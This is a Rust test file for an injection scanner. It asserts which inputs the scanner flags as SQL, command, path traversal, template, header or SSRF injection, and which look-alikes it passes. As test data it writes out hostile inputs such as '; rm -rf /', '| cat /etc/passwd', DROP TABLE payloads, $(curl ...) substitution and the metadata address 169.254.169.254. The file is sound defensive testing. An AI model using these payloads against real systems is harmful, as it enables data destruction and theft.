//! What is an injection, and what only looks like one. The rest of the cases are in the corpus.

use aos_sandbox::scan_text;
use aos_spec::skill::InputKind;

#[track_caller]
fn check(text: &str, sink: Option<InputKind>, expect: &[&str]) {
    let found: Vec<_> = scan_text(text, sink, &[])
        .violations
        .iter()
        .map(|rule| rule.id())
        .collect();
    assert_eq!(found, expect, "{text:?}");
}

#[test]
fn the_examples_of_the_specification_are_found() {
    for text in [
        "; rm -rf",
        "; rm -rf /",
        "| cat /etc/passwd",
        "'; DROP TABLE",
        "'; DROP TABLE users; --",
        "\" OR \"1\"=\"1",
        "../../../etc/passwd",
    ] {
        assert!(!scan_text(text, None, &[]).violations.is_empty(), "{text:?}");
    }
}

#[test]
fn sql_is_told_by_its_structure() {
    check("x' OR 'a'='a", None, &["AOS-SQLI-002"]);
    check(
        "1 UNION SELECT a, b FROM t",
        None,
        &["AOS-SQLI-003", "AOS-SQLI-009"],
    );
    check("1; DROP TABLE t", None, &["AOS-SQLI-004"]);
    check("1' AND SLEEP(5)-- -", None, &["AOS-SQLI-001", "AOS-SQLI-005"]);
    check("admin'--", None, &["AOS-SQLI-010"]);
    check("Union Select Committee minutes; order by date", None, &[]);
    check("don't drop the table; select another", None, &[]);
    check("call tokio::time::sleep(5) and wait", None, &[]);
}

#[test]
fn a_statement_is_refused_where_a_value_belongs() {
    check(
        "SELECT secret FROM members",
        Some(InputKind::SqlParam),
        &["AOS-SQLI-012"],
    );
    check("SELECT name FROM members WHERE id = 1", Some(InputKind::Sql), &[]);
    check(
        "SELECT 1; DROP TABLE members",
        Some(InputKind::Sql),
        &["AOS-SQLI-013"],
    );
    check(
        "SELECT pg_read_file('/etc/passwd')",
        Some(InputKind::Sql),
        &["AOS-SQLI-014"],
    );
}

#[test]
fn commands_are_told_by_what_follows_the_separator() {
    check("x; whoami", None, &["AOS-CMDI-001"]);
    check("$(curl -s x.example)", None, &["AOS-CMDI-002"]);
    check("w\"h\"oami", None, &["AOS-CMDI-003"]);
    check("cut & paste", None, &[]);
    check("name; id; email", None, &[]);
    check("| id | name | price |", None, &[]);
    check("run `ls -la` to list them all", None, &[]);
}

#[test]
fn paths_may_not_leave_their_folder() {
    let path = Some(InputKind::Path);
    check("a/../b.txt", path, &["AOS-PATH-002"]);
    check("../b.txt", path, &["AOS-PATH-001"]);
    check("/etc/passwd", path, &["AOS-PATH-003"]);
    check("a%c0%ae%c0%ae/b", path, &["AOS-PATH-002"]);
    check("reports/2026/final version.pdf", path, &[]);
    check("see ../docs/setup.md", None, &[]);
    check("[guide](../../concepts/guide.md)", None, &[]);
}

#[test]
fn template_expressions_are_read() {
    check("{{7*7}}", None, &["AOS-SSTI-003"]);
    check("{{ ''.__class__ }}", None, &["AOS-SSTI-001"]);
    check("{{ name }}", None, &[]);
    check("{{ name }}", Some(InputKind::TemplateData), &["AOS-SSTI-005"]);
    check("{{ user.name }}", Some(InputKind::Template), &[]);
    check(
        "{{ x.__globals__ }}",
        Some(InputKind::Template),
        &["AOS-SSTI-001"],
    );
    check("permit when {{\"foo\": 5} has bar};", None, &[]);
}

#[test]
fn text_for_people_blocks_nothing() {
    let outcome = scan_text(
        "x' OR 1=1 -- and ../../../etc/passwd",
        Some(InputKind::FreeText),
        &[],
    );
    assert!(outcome.violations.is_empty());
    assert!(!outcome.warnings.is_empty());
}

#[test]
fn headers_and_numbers_are_what_they_say() {
    check("a\r\nSet-Cookie: b", Some(InputKind::Header), &["AOS-HDR-001"]);
    check("12.5", Some(InputKind::Number), &[]);
    check("12 or so", Some(InputKind::Number), &["AOS-KIND-001"]);
    check("order_4711", Some(InputKind::Identifier), &[]);
    check("order 4711", Some(InputKind::Identifier), &["AOS-KIND-001"]);
}

#[test]
fn addresses_are_judged_in_every_notation() {
    let url = Some(InputKind::Url);
    check("https://example.com/a?b=c", url, &[]);
    check("http://2130706433/", url, &["AOS-SSRF-001", "AOS-SSRF-004"]);
    check("http://169.254.169.254/latest/", url, &["AOS-SSRF-002"]);
    check("gopher://example.com/", url, &["AOS-SSRF-003"]);
    check("https://user@example.com/", url, &["AOS-SSRF-005"]);
    check("http://127.0.0.1.nip.io/", url, &["AOS-SSRF-007"]);
}
